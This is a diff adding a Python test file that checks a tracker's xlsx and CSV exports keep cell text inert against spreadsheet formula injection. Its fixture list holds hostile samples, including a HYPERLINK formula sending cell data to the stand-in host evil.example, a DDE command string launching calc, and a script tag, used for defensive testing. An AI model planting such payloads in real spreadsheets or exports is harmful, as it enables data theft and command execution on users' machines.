@@ -1,0 +1,58 @@
+"""Exported spreadsheets keep tracker text inert: nothing a tracker said becomes a live formula."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import zipfile
+
+import openpyxl
+
+from data_access import export, queries, store
+from data_access.db import write_transaction
+from data_access.rules import parse_timescale
+from data_access.snapshot import PlanInfo, ReviewSnapshot, TrackerRow
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+           "<script>alert(1)</script>"]
+
+
+def _actions(engine):
+    rows = [TrackerRow("a", "Rec A", text, action_id=f"1.{i}", lead="Head of Service", status="red",
+                       timescale=parse_timescale("March 2017"), progress=text) for i, text in enumerate(HOSTILE, 1)]
+    rows.append(TrackerRow("b", "Rec B", "Plain action", action_id="2.1", status="complete",
+                           timescale=parse_timescale("Ongoing")))
+    with write_transaction(engine) as conn:
+        plan_id = store.ensure_plan(conn, PlanInfo("Export test"))
+        review_id = store.save_review(conn, plan_id, ReviewSnapshot(dt.date(2017, 6, 30), rows), source="t.xlsx")
+    return queries.review_actions(engine, review_id, dt.date(2017, 6, 30))
+
+
+def test_xlsx_has_no_formulas_and_keeps_the_text_exactly(engine):
+    actions = _actions(engine)
+    data = export.actions_xlsx(actions, "=Export test, Q1 2017/18")
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    assert sheet["A1"].value == "=Export test, Q1 2017/18" and sheet["A1"].data_type == "s"
+    headings = [c.value for c in sheet[3]]
+    descriptions = [sheet.cell(row=r, column=headings.index("Action", 1) + 1).value for r in range(4, 4 + len(actions))]
+    assert descriptions[: len(HOSTILE)] == HOSTILE
+    statuses = [sheet.cell(row=r, column=headings.index("Status") + 1).value for r in range(4, 4 + len(actions))]
+    assert statuses[0] == "✖ R Off track" and statuses[-1] == "✔ B Complete"  # words, not colour
+    due = sheet.cell(row=4, column=headings.index("Due date") + 1)
+    assert due.value.date() == dt.date(2017, 3, 31) and due.number_format == "DD/MM/YYYY"
+
+
+def test_csv_prefixes_formula_text_and_reads_back_in_excel_encoding(engine):
+    actions = _actions(engine)
+    data = export.actions_csv(actions)
+    assert data.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0][0] == "Action" and len(rows) == len(actions) + 1
+    progress = [r[rows[0].index("Progress update")] for r in rows[1:]]
+    assert progress[:4] == ["'" + text for text in HOSTILE[:4]]  # inert: shown as text by Excel
+    assert progress[4] == "<script>alert(1)</script>"  # not a formula trigger: exactly as written
+    assert all(not cell.startswith(export.FORMULA_TRIGGERS) for row in rows for cell in row)
